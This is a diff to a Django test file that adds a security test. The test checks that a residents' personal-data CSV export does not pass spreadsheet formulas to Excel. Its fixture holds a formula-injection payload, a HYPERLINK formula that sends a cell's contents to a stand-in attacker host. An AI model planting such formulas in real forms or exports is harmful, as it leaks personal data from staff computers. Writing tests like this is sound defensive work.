@@ -2,6 +2,8 @@
 neighbour gets out of the residents' forms and the public answers. Each test
 is a finding: it fails while the hole is open."""
 
+import csv
+import io
 from datetime import timedelta
 
 import pytest
@@ -10,6 +12,11 @@ from django.utils import timezone
 from questions import door, handling
 from questions.models import Status, Submission
 
+from .inbox import (
+    LIST,
+    editor_client_fixture,  # noqa: F401 - a fixture.
+    make_item,
+)
 from .test_questions_forms import ASK, filled
 from .test_questions_models import make_submission
 
@@ -224,3 +231,26 @@ def test_erasing_personal_data_does_not_reveal_it_on_the_public_page(reader, war
     after = reader.get(item.get_absolute_url()).content.decode()
     assert "Nguyễn Văn An" not in after
     assert "ngõ 34" not in after
+
+
+# --- 8. The personal-data export carries a resident's formula into Excel ----
+
+
+def test_the_personal_data_csv_never_hands_excel_a_formula(editor_client, ward):
+    """Whatever a stranger typed into the form goes into the CSV the editor
+    opens in Excel on a person's request. articles/statistics.py guards its
+    CSV against formulas (csv_text); this export does not: a title such as
+    =HYPERLINK(…) becomes a live link (or worse) on the staff's computer."""
+    make_item(
+        ward,
+        email="an.nguyen@example.com",
+        name="=1+2",
+        title='=HYPERLINK("http://ke-gian.example/?d="&A2;"Bấm để xem")',
+    )
+    response = editor_client.post(
+        f"{LIST}du-lieu-ca-nhan/", {"email": "an.nguyen@example.com", "csv": ""}
+    )
+    rows = list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert cells, "the export found the item"
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
